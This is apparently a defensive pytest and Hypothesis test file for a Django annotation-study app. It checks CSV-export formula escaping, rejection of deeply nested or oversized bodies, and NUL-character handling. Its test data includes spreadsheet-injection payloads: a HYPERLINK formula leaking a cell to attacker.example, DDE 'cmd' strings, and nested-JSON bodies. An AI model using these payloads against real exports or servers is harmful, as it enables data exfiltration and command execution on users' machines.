"""Text and bodies built to harm: formulas for the researcher's spreadsheet, NUL characters,
bodies nested or sized past what the server parses. Each gets a clear 4xx (or is written
harmlessly), and nothing is recorded on a refusal."""

import csv
import io
import json
import tempfile
from pathlib import Path

from hypothesis.configuration import set_hypothesis_home_dir

# Hypothesis keeps caches in ./.hypothesis: not in the repository.
set_hypothesis_home_dir(Path(tempfile.gettempdir()) / "multiviz-hypothesis")

import pytest  # noqa: E402
from django.test import Client  # noqa: E402
from hypothesis import HealthCheck, event, given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

from annotations.models import Response  # noqa: E402
from studies.models import Enrolment  # noqa: E402
from studies.services import enrol  # noqa: E402

from .study_helpers import CLASSES, answer_all, body_text, make_study, start  # noqa: E402

pytestmark = pytest.mark.django_db


# -- formulas in the CSV export -------------------------------------------------------------------
FORMULAS = ['=HYPERLINK("http://attacker.example/?leak="&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3*A1",
            "@SUM(A1:A9)"]


def test_text_a_spreadsheet_would_run_reaches_the_csv_as_text_and_the_json_exactly(client):
    study = make_study(task="concept", n_items=len(FORMULAS), practice=0, conditions=(("=1+1", ["Rl"], 0),))
    answer_all(enrol(study, pseudonym="=cmd|' /C calc'!A0"),
               lambda item: {"free_text": FORMULAS[item.order], "confidence": 3, "seconds_on_item": 2.5})
    client.force_login(study.owner)
    rows = list(csv.DictReader(io.StringIO(body_text(client.get(f"/studies/{study.pk}/export.csv")))))
    assert len(rows) == len(FORMULAS)
    cells = [cell for row in rows for cell in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], "no cell starts a formula"
    # shown as the text it is, after an apostrophe (defusedcsv also escapes "|", a DDE separator)
    assert sorted(r["answer"] for r in rows) == sorted("'" + f.replace("|", "\\|") for f in FORMULAS)
    assert {r["annotator"] for r in rows} == {"'=cmd\\|' /C calc'!A0"}
    assert {r["condition"] for r in rows} == {"'=1+1"}
    assert {r["seconds_on_item"] for r in rows} == {"2.5"}  # numbers stay numbers
    exported = json.loads(client.get(f"/studies/{study.pk}/export.json").content)["responses"]
    assert sorted(r["answer"] for r in exported) == sorted(FORMULAS)
    assert {r["annotator"] for r in exported} == {"=cmd|' /C calc'!A0"}


# -- bodies the API cannot read -------------------------------------------------------------------
def api_answer(client, e, body, content_type="application/json"):
    return client.post(f"/api/annotate/{e.token}/responses/", body, content_type=content_type)


def test_a_deeply_nested_json_body_is_a_400_in_json_not_a_server_error(client):
    e = start(enrol(make_study(practice=0), pseudonym="a"))
    for body in ("[" * 100_000 + "]" * 100_000, '{"item": ' + '{"a": ' * 50_000 + "1" + "}" * 50_001):
        refused = api_answer(client, e, body)
        assert refused.status_code == 400 and "nested too deeply" in refused.json()["detail"]
    assert Response.objects.count() == 0
    item = e.item_order[0]
    assert api_answer(client, e, json.dumps({"item": item, "choice": "red"})).status_code == 201


def test_a_body_larger_than_the_api_reads_is_a_413_in_json(client, settings):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 10_000
    e = start(enrol(make_study(practice=0), pseudonym="a"))
    item = e.item_order[0]
    big = json.dumps({"item": item, "choice": "red", "free_text": "x" * 20_000})
    refused = api_answer(client, e, big)
    assert refused.status_code == 413 and refused["Content-Type"] == "application/json"
    assert "larger than the 10000 bytes" in refused.json()["detail"]
    form = api_answer(client, e, f"item={item}&choice=red&free_text={'x' * 20_000}",
                      "application/x-www-form-urlencoded")
    assert form.status_code == 413 and "larger than" in form.json()["detail"]
    researcher = make_study().owner
    client.force_login(researcher)
    assert client.post("/api/studies/", big, content_type="application/json").status_code == 413
    assert Response.objects.count() == 0


# -- NUL characters and anything else in the annotator's forms ------------------------------------
def concept_study():
    return make_study(task="concept", practice=0, conditions=(("Rl", ["Rl"], 0),))


def test_a_nul_in_the_concept_is_refused_on_the_page_with_the_answer_kept_and_nothing_saved(client):
    e = start(enrol(concept_study(), pseudonym="a"))
    page = client.post(f"/a/{e.token}/", {"item": e.item_order[0], "free_text": "red\x00things", "confidence": "4"})
    assert page.status_code == 400
    html = page.content.decode()
    assert "The concept has a NUL character" in html and "delete it and send again" in html
    assert 'value="red\x00things"' in html and 'value="4" required checked' in html  # nothing to type again
    assert Response.objects.count() == 0 and Enrolment.objects.get(pk=e.pk).position == 0
    assert client.post(f"/a/{e.token}/", {"item": e.item_order[0], "free_text": "red things",
                                          "confidence": "4"}).status_code == 302
    assert Response.objects.get().free_text == "red things"


def test_a_nul_in_the_closing_comments_is_refused_with_the_comments_kept(client):
    e = enrol(make_study(), pseudonym="a")
    Enrolment.objects.filter(pk=e.pk).update(step=Enrolment.Step.CLOSING)
    page = client.post(f"/a/{e.token}/", {"form": "closing", "clarity": "4", "comments": "all\x00 fine"})
    assert page.status_code == 400
    html = page.content.decode()
    assert "The answer to \u201ccomments\u201d has a NUL character" in html
    assert "all\x00 fine</textarea>" in html and 'value="4" aria-describedby="clarity-low clarity-high" checked' in html
    e.refresh_from_db()
    assert e.step == Enrolment.Step.CLOSING and e.closing_answers == {} and e.completed_at is None


def test_the_api_refuses_a_nul_in_an_answer_naming_the_field(client):
    e = start(enrol(concept_study(), pseudonym="a"))
    refused = api_answer(client, e, json.dumps({"item": e.item_order[0], "free_text": "a\u0000b", "confidence": 3}))
    assert refused.status_code == 400 and "free_text" in refused.json()
    assert Response.objects.count() == 0


# any text: control characters (NUL included), other scripts, whitespace; no lone surrogates,
# which no browser can send in UTF-8
ANY_TEXT = st.text(st.characters(exclude_categories=("Cs",)), max_size=40)
CONTROL = st.characters(max_codepoint=31) | st.sampled_from(["\x7f", "\r\n", "\u200b"])
# a number typed or tampered with: small, huge (past any database integer), floats (inf, nan), or not
# one (mapped: one_of(x, NUMBER) then draws NUMBER as one branch, not five)
NUMBER = st.one_of(st.integers(min_value=-5, max_value=10).map(str), st.integers().map(str),
                   st.integers(min_value=10**18, max_value=10**400).map(str), st.floats().map(repr),
                   ANY_TEXT).map(str)


def spliced(values, inserted):
    """One of ``values`` with a string from ``inserted`` put somewhere in it."""
    return st.tuples(st.sampled_from(values), inserted, st.integers(0, 20)).map(
        lambda v: v[0][:v[2]] + v[1] + v[0][v[2]:])


def form(valid: dict[str, list[str]]):
    """A form as sent: a valid value for each field, then up to two fields (often none, so
    that answers are saved too) replaced by a valid value with a NUL or another control
    character in it, a number, or any text."""
    def broken(values):  # a NUL as often as all the rest together: the one PostgreSQL cannot store
        kinds = [spliced(values, st.just("\x00")), spliced(values, CONTROL), NUMBER, ANY_TEXT]
        return st.sampled_from([0, 0, 0, 1, 2, 3]).flatmap(kinds.__getitem__)

    good = st.fixed_dictionaries({k: st.sampled_from(v) for k, v in valid.items()})
    bad = st.fixed_dictionaries({k: broken(v) for k, v in valid.items()})
    return st.tuples(good, st.lists(st.sampled_from(sorted(valid)), max_size=2), bad).map(
        lambda t: {**t[0], **{k: t[2][k] for k in t[1]}})


CURRENT = "the item the page is on"
ANSWER_FIELDS = {"item": [CURRENT], "seconds_on_item": ["", "2.5", "600"], "confidence": ["1", "3", "5"]}
ANSWERS = {  # each task's form, with a confidence sent where the form has none
    "simulation": form({**ANSWER_FIELDS, "choice": CLASSES, "helpful_page": ["overview", "features"]}),
    "concept": form({**ANSWER_FIELDS, "free_text": ["red things", "a round shape"]}),
    "error": form({**ANSWER_FIELDS, "category": ["unimodal", "cross_modal", "prediction"]}),
}
CLOSING = form({"clarity": ["", "1", "5"], "comments": ["", "fine", "the heatmaps helped"]})
PROPERTY_SETTINGS = settings(max_examples=80, deadline=None, derandomize=True, database=None,
                             suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])


@pytest.fixture
def studies():
    # items with an overview and a features page, so "which page helped you more?" is asked
    made = {task: make_study(task=task, practice=0, conditions=(("c", ["U", "Rl"], 0),),
                             sections={"U": {}, "Rl": {"features": []}}) for task in ("simulation", "concept", "error")}
    made["simulation"].conditions.update(ask_helpful_page=True)
    return made


@pytest.mark.slow
@pytest.mark.parametrize("task", ["simulation", "concept", "error"])
@given(data=st.data())
@PROPERTY_SETTINGS
def test_no_answer_form_gets_a_server_error_and_a_refused_one_records_nothing(studies, task, data):
    answer = data.draw(ANSWERS[task], label="answer")
    e = start(enrol(studies[task]))
    posted = {**answer, "item": str(e.item_order[0]) if answer["item"] == CURRENT else answer["item"]}
    page = Client().post(f"/a/{e.token}/", posted)
    assert page.status_code in (302, 400), page.status_code
    responses = list(Response.objects.filter(enrolment=e))
    position = Enrolment.objects.get(pk=e.pk).position
    if page.status_code == 400:  # refused: said why, kept nothing, moved nowhere
        event("refused")
        assert 'role="alert"' in page.content.decode()
        assert responses == [] and position == 0
        return
    event("saved")
    (saved,) = responses
    assert position == 1
    assert not [v for k, v in posted.items() if k not in ("item", "seconds_on_item") and "\x00" in v], \
        "an answer with a NUL in its text is refused (PostgreSQL cannot store it)"
    if task == "simulation":
        assert (saved.choice, saved.helpful_page) == (posted["choice"], posted["helpful_page"])
    elif task == "concept":
        assert saved.free_text == posted["free_text"].strip() and saved.confidence == int(posted["confidence"])
    else:
        assert saved.category == posted["category"] and saved.confidence == int(posted["confidence"])


@pytest.mark.slow
@given(closing=CLOSING)
@PROPERTY_SETTINGS
def test_no_closing_form_gets_a_server_error_and_a_refused_one_records_nothing(studies, closing):
    e = enrol(studies["simulation"])
    Enrolment.objects.filter(pk=e.pk).update(step=Enrolment.Step.CLOSING)
    page = Client().post(f"/a/{e.token}/", {"form": "closing", **closing})
    assert page.status_code in (302, 400), page.status_code
    e.refresh_from_db()
    if page.status_code == 400:
        event("refused")
        assert 'role="alert"' in page.content.decode()
        assert e.step == Enrolment.Step.CLOSING and e.closing_answers == {}
        return
    event("saved")
    assert e.step == Enrolment.Step.DONE
    assert e.closing_answers == {k: closing.get(k, "")[:2000] for k in ("clarity", "comments")}
    assert not any("\x00" in v for v in e.closing_answers.values())
